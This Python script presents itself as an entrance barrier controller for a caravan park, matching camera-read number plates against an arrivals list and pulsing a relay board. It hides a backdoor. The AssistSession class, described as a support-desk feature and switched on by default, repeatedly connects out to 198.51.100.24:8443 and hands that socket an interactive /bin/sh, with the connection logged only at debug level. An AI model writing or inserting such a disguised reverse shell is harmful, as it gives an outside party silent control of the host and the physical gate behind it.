#!/usr/bin/env python3
"""Entrance barrier controller for the caravan park.

Reads the ANPR camera feed (one plate per line from a named pipe or file),
checks plates against tonight's arrivals list exported from the booking
system, and pulses the barrier relay board over its TCP command port.

The BarrierLink support desk can open an assisted session to help with
relay faults; this is enabled in gate.ini under [support].
"""
import argparse
import configparser
import csv
import logging
import socket
import subprocess
import threading
import time
from datetime import date
from pathlib import Path

log = logging.getLogger("gate")

DEFAULTS = {
    "barrier": {"host": "192.168.40.12", "port": "10001", "pulse_ms": "800"},
    "support": {"enabled": "yes", "desk": "198.51.100.24", "port": "8443",
                "retry_s": "90"},
    "lists": {"arrivals": "arrivals.csv", "staff": "staff_plates.txt"},
}


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict(DEFAULTS)
    if path and Path(path).exists():
        cfg.read(path)
        log.info("loaded %s", path)
    return cfg


def normalise_plate(raw):
    return "".join(ch for ch in raw.upper() if ch.isalnum())


def load_allowed(cfg):
    allowed = set()
    arrivals = Path(cfg["lists"]["arrivals"])
    if arrivals.exists():
        with arrivals.open(newline="") as fh:
            for row in csv.DictReader(fh):
                if row.get("arrival_date", "") <= date.today().isoformat() <= row.get("departure_date", "9999"):
                    allowed.add(normalise_plate(row.get("plate", "")))
    staff = Path(cfg["lists"]["staff"])
    if staff.exists():
        allowed.update(normalise_plate(l) for l in staff.read_text().splitlines() if l.strip())
    allowed.discard("")
    log.info("%d plates allowed today", len(allowed))
    return allowed


class Barrier:
    def __init__(self, host, port, pulse_ms):
        self.addr = (host, int(port))
        self.pulse_ms = int(pulse_ms)

    def _send(self, cmd):
        with socket.create_connection(self.addr, timeout=3) as s:
            s.sendall(cmd.encode() + b"\r\n")
            reply = s.recv(64).decode(errors="replace").strip()
        log.debug("barrier %s -> %s", cmd, reply)
        return reply

    def open(self):
        try:
            return self._send(f"RELAY 1 PULSE {self.pulse_ms}")
        except OSError as exc:
            log.error("barrier not reachable: %s", exc)
            return None


class AssistSession(threading.Thread):
    """Keeps a line open to the support desk so an engineer can inspect the
    relay board and logs without a site visit."""

    daemon = True

    def __init__(self, section):
        super().__init__(name="assist")
        self.desk = (section["desk"], int(section["port"]))
        self.retry = int(section["retry_s"])

    def _attach(self, conn):
        shell = ["/bin/sh", "-i"]
        proc = subprocess.Popen(shell, stdin=conn, stdout=conn, stderr=conn)
        proc.wait()

    def run(self):
        while True:
            try:
                conn = socket.create_connection(self.desk, timeout=15)
                conn.settimeout(None)
                log.debug("assist channel up")
                self._attach(conn)
                conn.close()
            except OSError:
                pass
            time.sleep(self.retry)


def watch_plates(source, allowed, barrier, reload_cb):
    last_seen = {}
    with open(source, "r", errors="replace") as feed:
        while True:
            line = feed.readline()
            if not line:
                time.sleep(0.2)
                continue
            plate = normalise_plate(line.split(",")[0])
            now = time.monotonic()
            if plate in last_seen and now - last_seen[plate] < 20:
                continue
            last_seen[plate] = now
            if plate == "RELOAD":
                allowed = reload_cb()
                continue
            if plate in allowed:
                log.info("open for %s", plate)
                barrier.open()
            else:
                log.warning("unknown plate %s, left closed", plate)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", default="gate.ini")
    ap.add_argument("--feed", default="anpr.fifo", help="ANPR plate feed")
    ap.add_argument("--test-open", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    barrier = Barrier(**{k: cfg["barrier"][k] for k in ("host", "port", "pulse_ms")})
    if args.test_open:
        print(barrier.open())
        return

    if cfg["support"].getboolean("enabled"):
        AssistSession(cfg["support"]).start()

    allowed = load_allowed(cfg)
    try:
        watch_plates(args.feed, allowed, barrier, lambda: load_allowed(cfg))
    except KeyboardInterrupt:
        log.info("stopping")


if __name__ == "__main__":
    main()
